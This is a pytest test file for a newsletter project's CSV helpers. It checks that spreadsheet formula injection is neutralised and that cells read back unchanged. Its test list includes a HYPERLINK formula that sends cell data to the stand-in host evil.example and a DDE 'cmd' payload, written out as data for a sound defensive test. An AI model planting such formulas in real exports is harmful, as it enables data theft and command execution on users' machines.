"""CSV cells: never run as a formula by a spreadsheet, and read back exactly as given."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from newsletter.core.spreadsheets import read_cell, safe_cell, writer

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+2@example.com",
    "+tag@example.com",
    "-a@example.com",
    "@SUM(A1:A9)",
    "  =cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "smtp; 550 5.1.1 ok",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value: str) -> None:
    cell = safe_cell(value)
    if value.startswith("smtp"):
        assert cell == value  # nothing to neutralise: left as it was
        return
    assert cell == "'" + value
    assert read_cell(cell) == value


@given(st.text())
def test_every_cell_reads_back_as_it_was_and_never_starts_a_formula(value: str) -> None:
    cell = safe_cell(value)
    assert read_cell(cell) == value
    assert not cell.lstrip().startswith(("=", "+", "-", "@"))
    assert not cell.startswith(("\t", "\r", "\n"))


def test_a_quote_typed_by_hand_is_kept_and_one_of_ours_comes_off() -> None:
    assert read_cell("'Ana") == "'Ana"  # the value's own quote: nothing to undo
    assert read_cell("'=1+2@example.com") == "=1+2@example.com"
    assert safe_cell("'Ana") == "''Ana" and read_cell("''Ana") == "'Ana"


def test_the_writer_makes_every_cell_safe_numbers_included() -> None:
    stream = io.StringIO()
    writer(stream).writerow(["=1+2@example.com", 3, None, "-2"])
    assert next(csv.reader(io.StringIO(stream.getvalue()))) == ["'=1+2@example.com", "3", "", "'-2"]
